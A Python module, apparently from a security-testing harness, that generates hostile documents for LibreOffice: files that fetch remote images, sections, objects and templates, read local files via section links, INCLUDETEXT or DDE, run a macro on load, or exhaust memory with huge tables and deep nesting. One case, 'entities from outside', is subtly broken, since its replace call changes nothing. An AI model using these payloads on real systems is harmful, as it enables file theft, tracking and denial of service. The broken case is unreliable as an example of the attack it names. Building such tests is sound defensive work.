"""Hostile documents that LibreOffice opens: they fetch, link, run, or never end."""
# ruff: noqa: E501 - a case stands as one row of its table, however long

from __future__ import annotations

from random import Random

from campaigns.documents.damage import SAMPLES, _harmed
from campaigns.documents.document import TEXT, Bait, Document, packed

_NAMES = (
    "".join(
        f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"'
        for name, long in (
            ("office", "office"),
            ("text", "text"),
            ("draw", "drawing"),
            ("table", "table"),
            ("script", "script"),
            ("style", "style"),
            ("form", "form"),
        )
    )
    + ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office"'
)
GOOD = "".join(f"<text:p>{line}</text:p>" for line in TEXT)


def odt(body: str = GOOD, before: str = "", **parts: str) -> bytes:
    """An OpenDocument text of this body."""
    kind = "application/vnd.oasis.opendocument.text"
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content{_NAMES} office:version="1.2">{before}'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    return packed(
        {
            "mimetype": kind,
            "content.xml": content,
            "META-INF/manifest.xml": manifest,
            **{name.replace("__", "/"): text for name, text in parts.items()},
        },
        stored=("mimetype",),
    )


def fetching(bait: Bait) -> bytes:
    """A text with a picture on our server."""
    return odt(
        f'{GOOD}<text:p><draw:frame draw:name="a" text:anchor-type="as-char"><draw:image xlink:href="{bait.url("a.png")}" '
        'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
    )


def rtf(more: str) -> bytes:
    """A text in rich text format."""
    lines = "".join(
        "".join(f"\\u{ord(c)}?" if ord(c) > 127 else c for c in line) + "\\par " for line in TEXT
    )
    return ("{\\rtf1\\ansi " + lines + more + "}").encode("ascii", "replace")


def libre(chance: Random, bait: Bait) -> Document:
    """One document for LibreOffice."""
    far, near = bait.url("office"), f"file://{bait.file}"
    macro = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'
    )
    page = "".join(f"<p>{line}</p>" for line in TEXT)
    field = "{\\field{\\*\\fldinst %s}{\\fldrslt x}}"
    what, name, data = chance.choice((
        ("odt, picture on a server", "方案.odt", fetching(bait)),
        ("odt, section of a server", "方案.odt", odt(f'{GOOD}<text:section text:name="a"><text:section-source xlink:href="{far}"/></text:section>')),
        ("odt, section of a file", "方案.odt", odt(f'{GOOD}<text:section text:name="a"><text:section-source xlink:href="{near}" text:filter-name="Text"/></text:section>')),
        ("odt, object on a server", "方案.odt", odt(f'{GOOD}<text:p><draw:frame draw:name="a"><draw:object xlink:href="{far}"/></draw:frame></text:p>')),
        ("odt, floating frame", "方案.odt", odt(f'{GOOD}<text:p><draw:frame draw:name="a"><draw:floating-frame xlink:href="{far}"/></draw:frame></text:p>')),
        ("odt, plug-in", "方案.odt", odt(f'{GOOD}<text:p><draw:frame draw:name="a"><draw:plugin xlink:href="{far}"/></draw:frame></text:p>')),
        ("odt, macro on opening", "方案.odt", odt(before=macro)),
        ("odt, DDE", "方案.odt", odt(f'<text:dde-connection-decls><text:dde-connection-decl office:name="a" office:dde-application="soffice" office:dde-topic="{near}" office:dde-item="x" office:automatic-update="true"/></text:dde-connection-decls>{GOOD}')),
        ("odt, entities from outside", "方案.odt", odt().replace(b"x", b"x")),
        ("odt, 20,000 deep", "方案.odt", odt(GOOD + "<text:list><text:list-item>" * 20_000)),
        ("odt, a table of a billion columns", "方案.odt", odt(f'{GOOD}<table:table><table:table-column table:number-columns-repeated="1000000000"/><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>a</text:p></table:table-cell></table:table-row></table:table>')),
        ("odt, a billion blanks", "方案.odt", odt(f'{GOOD}<text:p><text:s text:c="1000000000"/></text:p>')),
        ("odt, cut short", "方案.odt", odt()[:-200]),
        ("rtf, picture on a server", "方案.rtf", rtf(field % f'INCLUDEPICTURE "{far}" \\\\d')),
        ("rtf, text of a file", "方案.rtf", rtf(field % f'INCLUDETEXT "{bait.file}"')),
        ("rtf, template on a server", "方案.rtf", rtf("{\\*\\template " + far + "}")),
        ("rtf, linked object", "方案.doc", rtf("{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105}}")),
        ("rtf, 50,000 deep", "方案.rtf", rtf("{" * 50_000)),
        ("rtf, binary of a length that lies", "方案.rtf", rtf("{\\pict\\bin2147483647 x}")),
        ("html called doc", "方案.doc", f'<html><head><link rel=stylesheet href="{far}"></head><body>{page}<img src="{far}"></body></html>'.encode()),
        ("flat xml called odt", "方案.odt", f'<?xml version="1.0"?><office:document{_NAMES} office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text>{GOOD}<text:p><draw:frame><draw:image xlink:href="{far}"/></draw:frame></text:p></office:text></office:body></office:document>'.encode()),
        ("doc, damaged", "方案.doc", _harmed((SAMPLES / "old-word.doc").read_bytes(), chance)[1]),
        ("doc, damaged", "方案.wps", _harmed((SAMPLES / "old-word.doc").read_bytes(), chance)[1]),
    ))  # fmt: skip
    return Document("LibreOffice", what, name, data, office=True)
